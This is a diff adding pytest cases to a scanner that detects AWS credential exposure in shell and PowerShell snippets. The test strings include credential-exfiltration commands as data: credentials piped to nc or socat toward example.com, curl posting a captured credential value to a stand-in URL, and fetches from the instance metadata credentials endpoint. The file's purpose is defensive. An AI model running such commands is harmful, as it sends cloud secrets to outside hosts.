@@ -284,6 +284,12 @@ def test_credentials_that_get_out(text: str, command: str, what: str, gravity: s
         "aws sts assume-role --role-arn x --query Credentials.Expiration",
         "eval $(aws configure export-credentials --format env)",
         "print(session.get_credentials().access_key)",
+        "# print(session.get_credentials().secret_key)",
+        "  // console.log(c.SecretAccessKey)",
+        "ROLE -o NUL",
+        "ROLE --output nul",
+        "ROLE > $null",
+        "ROLE | tee /dev/null > f.log | wc -l",
     ],
 )
 def test_credentials_that_stay(text: str) -> None:
@@ -361,3 +367,89 @@ def test_to_require_tokens_may_break_a_call_without_one(template: Callable[..., 
     report = template(f"{text}        {call.replace('MD', MD)}\n", rules=["imdsv1-allowed"])
     (finding,) = report.findings
     assert (finding.fix, "without a session token" in finding.risk) == (fix, fix == "unsafe")
+
+
+FILTERS = [
+    *("jq", "sed", "awk", "gawk", "cut", "grep", "egrep", "tr", "cat", "head", "tail", "sort", "base64", "python"),
+    *("python3", "perl", "ruby", "xargs", "json_pp", "yq", "tee", "ConvertFrom-Json", "ConvertTo-Json"),
+    *("Select-Object", "Format-List", "Out-String"),
+]
+
+
+@pytest.mark.parametrize("name", FILTERS)
+def test_a_filter_hands_credentials_on(name: str) -> None:
+    assert [found[1:] for found in exposed(f"ROLE | {name}")] == [("prints", "medium")]
+    assert exposed("ROLE | wc -l") == []
+
+
+@pytest.mark.parametrize("name", ["logger", "wall", "mail", "sendmail", "Write-EventLog", "systemd-cat"])
+def test_credentials_get_into_logs(name: str) -> None:
+    assert [found[2] for found in exposed(f"ROLE | {name}")] == ["high"]
+
+
+@pytest.mark.parametrize("name", ["nc", "ncat", "netcat", "socat"])
+def test_credentials_get_to_other_hosts(name: str) -> None:
+    assert [found[1] for found in exposed(f"ROLE | {name} example.com 80")] == ["sends"]
+
+
+@pytest.mark.parametrize(
+    ("body", "sent"),
+    [
+        ("-d $C", True),
+        ("-d$C", True),
+        ("--data-binary $C", True),
+        ("--data=$C", True),
+        ("-F x=$C", True),
+        ("-T $C", True),
+        ("--json $C", True),
+        ("--post-data=$C", True),
+        ("-H X-Amz-Security-Token:$C", False),
+        ("-d x", False),
+    ],
+)
+def test_credentials_are_sent_in_a_body_or_an_address(body: str, sent: bool) -> None:
+    url = "https://example.com/x"
+    assert [found[1] for found in exposed(f"C=$(ROLE)\ncurl {body} {url}")] == (["sends"] if sent else [])
+    assert [found[1] for found in exposed(f"C=$(ROLE)\ncurl {url}?c=$C")] == ["sends"]
+
+
+@pytest.mark.parametrize("name", ["Out-File", "Set-Content", "Add-Content", "Tee-Object"])
+def test_credentials_get_into_files(name: str) -> None:
+    assert "stores" in [found[1] for found in exposed(f"ROLE | {name} C:\\\\c.json")]
+
+
+@pytest.mark.parametrize(
+    ("options", "stored"),
+    [
+        ("-o f", True),
+        ("-so f", True),
+        ("--output f", True),
+        ("--output=f", True),
+        ("-O", True),
+        ("--remote-name", True),
+        ("-o -", False),
+        ("-o /dev/stdout", False),
+        ("--output=-", False),
+        ("-s", False),
+    ],
+)
+def test_a_client_writes_credentials_to_a_file_that_its_options_name(options: str, stored: bool) -> None:
+    url = f"{MD}/iam/security-credentials/web"
+    assert [found[1] for found in exposed(f"curl {options} {url}")] == ["stores" if stored else "prints"]
+
+
+@pytest.mark.parametrize(
+    ("options", "stored"),
+    [("", True), ("-O f", True), ("-O -", False), ("-qO-", False), ("-O-", False), ("--output-document=-", False)],
+)
+def test_wget_writes_credentials_to_a_file_unless_told_otherwise(options: str, stored: bool) -> None:
+    url = f"{MD}/iam/security-credentials/web"
+    assert [found[1] for found in exposed(f"wget {options} {url}")] == ["stores" if stored else "prints"]
+
+
+@pytest.mark.parametrize("listing", ["env", "printenv", "set", "export -p"])
+@pytest.mark.parametrize("setting", ["eval $(SAY)", "export $(SAY)"])
+def test_a_listing_of_the_environment_prints_credentials_that_were_set(setting: str, listing: str) -> None:
+    text = f"{setting}\n{listing}\n".replace("SAY", "aws configure export-credentials --format env")
+    assert [found[1] for found in exposed(text)] == ["prints"]
+    assert exposed(f"{listing}\n{text.partition(chr(10))[0]}\n") == []
